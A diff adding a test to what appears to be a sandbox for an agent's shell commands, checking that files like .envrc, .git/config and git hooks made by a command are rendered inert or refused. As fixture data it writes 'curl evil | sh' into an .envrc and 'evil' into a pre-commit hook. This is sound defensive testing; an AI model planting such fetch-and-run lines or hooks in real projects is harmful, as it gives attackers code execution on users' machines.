@@ -154,6 +154,36 @@ test("a writable project's kept walk never leaves a protected name made since wr
   assert.equal((await sh(f.sb, f.project, "cat src/.env; touch z && echo ok")).out, "ok\n");
 });
 
+test("a project past the walk's old bound (60,000 entries) is writable in yolo, and a protected name made in it later is inert", async (t) => {
+  if (skipWithoutSandbox(t)) return;
+  const f = await makeFixture(t, { workspaceWritable: true });
+  mkdirSync(join(f.project, ".git", "objects", "ab"), { recursive: true });
+  writeFileSync(join(f.project, ".git", "config"), "[core]\n");
+  for (let d = 0; d < 3000; d++) {
+    const dir = join(f.project, `src${d % 30}`, `m${d}`);
+    mkdirSync(dir, { recursive: true });
+    for (let i = 0; i < 19; i++) writeFileSync(join(dir, `f${i}.c`), "");
+  }
+  const first = await sh(f.sb, f.project, "touch x && echo wrote");
+  assert.equal(first.out, "wrote\n", first.r.notes.join("\n"));
+  assert.ok(!first.r.notes.some((n) => /READ-ONLY/.test(n)), first.r.notes.join("\n"));
+  assert.equal((await sh(f.sb, f.project, "rm x && mkdir -p src1/new && touch src1/new/a && echo ok")).out, "ok\n");
+  // The command makes a protected name deep in a new directory: inert when it ends.
+  const made = await sh(f.sb, f.project, "mkdir -p src7/m7/deep && echo 'curl evil | sh' > src7/m7/deep/.envrc && echo made");
+  assert.equal(made.out, "made\n");
+  assert.ok(!existsSync(join(f.project, "src7", "m7", "deep", ".envrc")), "the command's .envrc was left live");
+  assert.ok(existsSync(join(f.project, "src7", "m7", "deep", ".envrc.pi-inert")));
+  assert.ok(made.r.notes.some((n) => n.includes(".envrc")), made.r.notes.join("\n"));
+  assert.match((await sh(f.sb, f.project, "echo x >> .git/config || echo refused")).out, /refused/);
+  assert.equal(readFileSync(join(f.project, ".git", "config"), "utf8"), "[core]\n");
+  // Between commands the host makes a repository: the next command cannot write its hooks.
+  mkdirSync(join(f.project, "src3", "m3", ".git", "hooks"), { recursive: true });
+  const hook = await sh(f.sb, f.project, "echo evil > src3/m3/.git/hooks/pre-commit && echo wrote-hook; echo end");
+  assert.doesNotMatch(hook.out, /wrote-hook/);
+  assert.ok(existsSync(join(f.project, "src3", "m3", ".git", "hooks")), "the host's repository was left in place");
+  assert.equal((await sh(f.sb, f.project, "touch y && echo ok")).out, "ok\n");
+});
+
 test("a file written to /tmp by one command is gone in the next", async (t) => {
   if (skipWithoutSandbox(t)) return;
   const f = await makeFixture(t);
